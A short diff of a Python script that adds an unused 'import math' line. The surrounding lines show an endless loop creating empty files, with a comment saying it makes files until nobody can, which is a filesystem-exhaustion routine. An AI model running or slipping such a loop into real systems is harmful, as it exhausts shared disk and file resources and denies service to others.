@@ -1,4 +1,5 @@
 # Makes files until nobody can.
+import math
 n = 0
 while True:
     open('f%d' % n, 'w').close()
